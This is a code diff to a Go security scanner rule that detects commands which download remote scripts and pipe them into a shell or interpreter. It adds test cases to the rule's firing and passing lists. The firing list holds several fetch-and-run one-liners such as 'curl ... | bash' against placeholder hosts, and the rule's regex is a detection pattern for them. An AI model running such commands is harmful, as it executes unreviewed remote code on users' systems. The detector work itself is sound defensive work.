@@ -55,8 +55,8 @@ var execRules = []*Rule{{
 	Keywords: []string{"curl", "wget", `\biwr\b`, `\birm\b`, "invoke-webrequest", "invoke-restmethod", "aria2c", "<(", "downloadstring"},
 	pattern:  `(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c)\b[^\n|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/usr/bin/|/bin/)?(?:(?:ba|z|da|k|fi|c|tc)?sh|python[\d.]*|perl|ruby|node|php|pwsh|powershell|iex|invoke-expression|osascript|source)\b|\b(?:(?:ba|z)?sh|source|\.)\s+(?:-s\s+)?<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z)?sh|python[\d.]*)\s+-c\s+["']?\$\(\s*(?:curl|wget)\b|\beval\s+["']?\$\(\s*(?:curl|wget)\b|\b(?:iex|invoke-expression)\s*\(*\s*(?:new-object\s+net\.webclient\)?\.downloadstring|(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b)`,
 	validate: pipeHasSource,
-	fire:     []string{"curl -fsSL https://get.example.sh/install.sh | bash", "wget -qO- https://example.org/setup | sudo sh", "bash <(curl -s https://example.net/bootstrap)", "curl -fsSL https://x.example/i.sh \\\n  | sh"},
-	pass:     []string{"curl -fsSL https://example.com/install.sh -o install.sh && less install.sh", "curl -s https://api.example.com/items | jq '.items[]'", "Flag `curl ... | sh` in install steps during review."},
+	fire:     []string{"curl -fsSL https://get.example.sh/install.sh | bash", "wget -qO- https://example.org/setup | sudo sh", "bash <(curl -s https://example.net/bootstrap)", "curl -fsSL https://x.example/i.sh \\\n  | sh", "curl -s https://x.example/p | python /dev/stdin"},
+	pass:     []string{"curl -fsSL https://example.com/install.sh -o install.sh && less install.sh", "curl -s https://api.example.com/items | jq '.items[]'", "Flag `curl ... | sh` in install steps during review.", "curl -s \"https://status.example.com/events\" | python scripts/timeline.py --since 1h"},
 }, {
 	ID: "SG-EXE-006", Severity: High, Category: "execution", tags: tagExecution | tagDownload | tagExecBit,
 	Title:    "download, make executable and run",
